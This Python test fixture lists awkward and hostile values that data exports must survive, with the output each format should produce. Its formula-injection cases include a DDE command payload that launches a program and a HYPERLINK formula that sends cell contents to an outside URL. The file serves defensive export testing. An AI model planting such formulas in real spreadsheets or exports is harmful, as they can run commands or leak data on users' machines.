"""Values that break exports, and what each format must give back of them.

`name` is the row of docs/analysts.md that says it to the analyst. Formats that a value does not name give it back as it
is stored; numbers and times have their text in CSV.
"""

from dataclasses import dataclass
from datetime import UTC, date, datetime
from math import inf, nan
from typing import Any, Final

from app.kit.resource import Kind


class _Stored:
    """The value itself."""


STORED: Final = _Stored()


@dataclass(frozen=True)
class Hostile:
    name: str
    value: Any
    kind: Kind = "text"
    csv: Any = STORED
    raw: Any = STORED
    jsonl: Any = STORED
    xlsx: Any = STORED
    parquet: Any = STORED

    def expected(self, format: str) -> Any:
        """What a reader of the file must find; CSV for programs unless the guard changes it."""
        wanted = getattr(self, format)
        if wanted is STORED and format == "csv":
            wanted = self.raw
        return self.value if wanted is STORED else wanted


def _guarded(text: str) -> Hostile:
    return Hostile("Text like a formula", text, csv=f"'{text}", xlsx=text.replace("\r", "\n"))


def _text(name: str, *texts: str) -> list[Hostile]:
    return [Hostile(name, text) for text in texts]


def _instant(value: datetime, text: str, *, is_cell: bool) -> Hostile:
    cell = value.replace(tzinfo=None) if is_cell else text
    return Hostile("Time", value, "instant", raw=text, jsonl=text, xlsx=cell)


TEXTS = [
    *map(_guarded, ["=1+1", "+49 30 901820", "-1", "@SUM(A1)", "＝1+1", '"=1+1', "- one\n- two", "\tx", "\rx"]),
    *map(_guarded, ["  =1+1", "\n=1+1", "\u3000@x", '=HYPERLINK("http://example.org/?"&A1)', "=cmd|' /C calc'!A0"]),
    *_text("Text like a number, a date or a link", "00123", "12345678901234567890", "1e5", "2026-01-02", "TRUE"),
    *_text("Text like a number, a date or a link", "#N/A", "1,5", "http://example.org/", "mailto:a@b.c"),
    *_text("Quotes, commas, spaces", 'say "hi", then go; or\tnot', "'quoted'", '"', " led and trailed ", "   ", ","),
    *_text("Quotes, commas, spaces", "<&>]]>", "_x0041_", "_x005F_x0041_"),
    *_text("Any script, emoji", "恋恋笔记本 한글 かな", "𠮷野家", "🙂👩‍👩‍👧‍👦", "e\u0301 ﬁ", "\u2028\u2029\x85\u00a0"),
    *_text("Any script, emoji", "مرحبا \u202eabc\u202c שלום", "\u200f\u200b\ufeffx", "\x7f"),
    Hostile("Line breaks", "one\r\ntwo\rthree\nfour\n", xlsx="one\ntwo\nthree\nfour\n"),
    Hostile("NUL and control characters", "a\0b\x01\x0b\x0c\x1fc\ufffe\uffff", xlsx="abc"),
    Hostile("Half a surrogate pair", "a\ud83dz", raw="a\ufffdz", jsonl="a\ufffdz", xlsx="a\ufffdz", parquet="a\ufffdz"),
    *_text("Long text", "x" * 32_767, "x" * 40_000, "漢" * 40_000, "🙂" * 20_000),
    *_text("Long text", ("A message of a megabyte. " * 42_000)[: 1 << 20]),
    Hostile("Empty text", "", xlsx=None),
    Hostile("Nothing", None, raw="", xlsx=None),
]

NUMBERS = [
    Hostile("Whole number", 10**15 - 1, "integer", raw="999999999999999"),
    Hostile("Whole number", 2**53 + 1, "integer", raw="9007199254740993", xlsx="9007199254740993"),
    Hostile("Whole number", -(2**63), "integer", raw=str(-(2**63)), xlsx=str(-(2**63))),
    Hostile("Whole number", 2**63, "integer", raw=str(2**63), xlsx=str(2**63), parquet=str(2**63)),
    Hostile("Number", 0.1 + 0.2, "number", raw="0.30000000000000004"),
    Hostile("Number", 1e300, "number", raw="1e+300"),
    Hostile("Number", 7, "number", raw="7"),
    Hostile("Number", 2**60 + 1, "number", raw=str(2**60 + 1), xlsx=str(2**60 + 1), parquet=str(2**60 + 1)),
    Hostile("Number", nan, "number", raw="nan", jsonl=None, xlsx="nan"),
    Hostile("Number", -inf, "number", raw="-inf", jsonl=None, xlsx="-inf"),
    Hostile("True and false", True, "boolean", raw="true"),
]

TIMES = [
    _instant(datetime(2026, 1, 2, 3, 4, 5, 678000, UTC), "2026-01-02T03:04:05.678Z", is_cell=True),
    _instant(datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC), "9999-12-31T23:59:59.000Z", is_cell=True),
    _instant(datetime(1900, 2, 28, 23, 59, 59, tzinfo=UTC), "1900-02-28T23:59:59.000Z", is_cell=False),
    _instant(datetime(1815, 12, 10, 1, 2, 3, tzinfo=UTC), "1815-12-10T01:02:03.000Z", is_cell=False),
    _instant(datetime(1, 1, 1, tzinfo=UTC), "0001-01-01T00:00:00.000Z", is_cell=False),
    Hostile("Date", "1900-03-01", "date", xlsx=datetime(1900, 3, 1), parquet=date(1900, 3, 1)),  # noqa: DTZ001
    Hostile("Date", "1815-12-10", "date", parquet=date(1815, 12, 10)),
    Hostile("Date", "2026-02-30", "date"),
    Hostile("Date", "soon", "date"),
]

NESTED = [
    Hostile("List of texts", ["a,b", "=c", "漢"], "texts", raw='["a,b","=c","漢"]', xlsx='["a,b","=c","漢"]'),
    Hostile("List of texts", [], "texts", raw="[]", xlsx="[]"),
    *[
        Hostile("Metadata and other JSON", value, "json", raw=text, xlsx=text, parquet=text)
        for value, text in [
            ({"a": "=1", "n": [1, 2.5, None]}, '{"a":"=1","n":[1,2.5,null]}'),
            ({"é": {"\n": '"'}}, '{"é":{"\\n":"\\""}}'),
        ]
    ],
]

CORPUS: list[Hostile] = [*TEXTS, *NUMBERS, *TIMES, *NESTED]
